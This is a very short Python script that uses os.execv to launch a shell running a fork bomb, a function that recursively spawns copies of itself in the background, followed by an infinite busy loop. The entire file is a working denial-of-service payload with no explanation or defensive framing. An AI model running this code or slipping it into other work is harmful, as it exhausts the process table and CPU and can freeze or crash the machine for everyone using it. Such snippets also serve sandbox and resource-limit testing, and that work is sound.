import os

os.execv("/bin/sh", ["sh", "-c", "bomb() { bomb | bomb & }; bomb; while :; do :; done"])
